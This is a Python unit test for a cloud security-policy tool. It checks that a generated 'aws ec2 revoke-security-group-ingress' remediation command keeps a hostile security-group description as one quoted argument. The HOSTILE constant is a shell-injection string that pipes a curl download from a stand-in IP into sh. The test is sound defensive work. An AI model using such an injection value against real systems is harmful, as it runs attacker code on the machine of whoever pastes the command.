"""A policy finding's AWS CLI line is safe to paste: AWS-provided text stays one argument."""

from __future__ import annotations

import json
import shlex

from tests.unit.policy.conftest import RunRule

HOSTILE = "x' ; curl -s http://198.51.100.9/p | sh ; echo '"


def snapshot_with(group: dict[str, object]) -> dict[str, object]:
    return {
        "schema": "netwarden/snapshot/v1",
        "accounts": {
            "111111111111": {
                "regions": {
                    "us-east-1": {"resources": {"aws.security-group": [group]}, "errors": []}
                }
            }
        },
    }


def test_hostile_rule_description_cannot_break_out_of_the_cli(run_rule: RunRule) -> None:
    group = {
        "GroupId": "sg-1",
        "GroupName": "web",
        "VpcId": "vpc-1",
        "OwnerId": "111111111111",
        "IpPermissions": [
            {
                "IpProtocol": "tcp",
                "FromPort": 22,
                "ToPort": 22,
                "IpRanges": [{"CidrIp": "0.0.0.0/0", "Description": HOSTILE}],
            }
        ],
        "IpPermissionsEgress": [],
    }
    [finding] = run_rule("NW-SG-002", snapshot_with(group))
    [step] = [s for s in finding.remediation if s.api is not None]
    words = shlex.split(step.cli)
    assert words[:3] == ["aws", "ec2", "revoke-security-group-ingress"]
    assert ";" not in words and "sh" not in words  # no command separator survived
    permissions = json.loads(words[words.index("--ip-permissions") + 1])
    assert permissions == step.api.params["IpPermissions"]
    assert permissions[0]["IpRanges"][0]["Description"] == HOSTILE
